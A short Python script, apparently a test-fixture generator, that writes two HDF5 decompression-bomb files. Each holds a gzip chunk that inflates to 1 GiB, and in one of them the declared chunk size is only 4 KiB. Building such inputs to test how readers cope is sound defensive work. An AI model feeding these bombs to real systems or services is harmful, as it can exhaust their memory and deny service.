"""Writes two files of 1 MB to FOLDER, each with a chunk that inflates to 1 GiB. The declared size
of the chunk is 4 KiB in excess.h5, and 1 GiB in declared.h5.
"""

import os
import sys
import zlib

import h5py


def main():
    deflate = zlib.compressobj(9)
    part = bytes(1 << 20)
    bomb = b"".join(deflate.compress(part) for _ in range(1024)) + deflate.flush()
    for name, elements in ("excess.h5", 1024), ("declared.h5", 1 << 28):
        with h5py.File(os.path.join(sys.argv[1], name), "w", libver="latest") as file:
            data = file.create_dataset(
                "x", (elements,), "i4", chunks=(elements,), compression="gzip"
            )
            data.id.write_direct_chunk((0,), bomb)


if __name__ == "__main__":
    main()
